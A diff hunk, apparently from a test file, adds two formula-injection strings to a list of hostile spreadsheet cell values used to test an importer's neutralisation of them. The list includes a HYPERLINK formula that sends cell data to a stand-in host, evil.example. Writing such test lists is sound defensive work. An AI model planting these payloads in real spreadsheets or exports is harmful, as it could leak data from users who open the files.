@@ -34,6 +34,8 @@ HOSTILE = [
     "x;;+1",
     "x,y;=1+1",  # quoted for the comma; the ;-split still finds the formula
     ' =HYPERLINK("http://evil.example/?"&A1)',  # trimmed by the importer
+    'x;"=1+1',  # the ;-cell starts with a quote: unquoted, it is "=1+1..."
+    'x; ""@SUM(1+1)',
     "a;b",  # harmless: unchanged
 ]
 
